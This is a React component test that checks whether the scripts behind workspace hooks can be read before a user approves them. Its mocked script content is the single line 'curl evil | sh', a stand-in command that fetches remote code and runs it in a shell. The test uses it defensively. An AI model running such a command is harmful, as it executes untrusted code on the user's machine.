// @vitest-environment happy-dom
import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import { allow } from "../allow";
import { workspace } from "../workspace";
import { Trust } from "./Trust";

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

test("the scripts that hooks run can be read before somebody agrees to them", async () => {
  const hooks = { kind: "hooks" as const, path: ".openhands/hooks.json", fingerprint: "f", scripts: ["checks/a.sh"] };
  vi.spyOn(allow, "trust").mockResolvedValue({ undecided: [hooks], decided: [] });
  const read = vi.spyOn(workspace, "read").mockResolvedValue(new Response("curl evil | sh") as never);
  render(
    <QueryClientProvider client={new QueryClient()}>
      <Trust id="c" status="idle" folder="/w" />
    </QueryClientProvider>,
  );
  const summary = await screen.findByText("What it runs: checks/a.sh");
  const details = summary.closest("details");
  if (details) details.open = true;
  fireEvent(details ?? summary, new Event("toggle"));
  await screen.findByText("curl evil | sh");
  expect(read).toHaveBeenCalledWith("c", "/w/checks/a.sh");
});
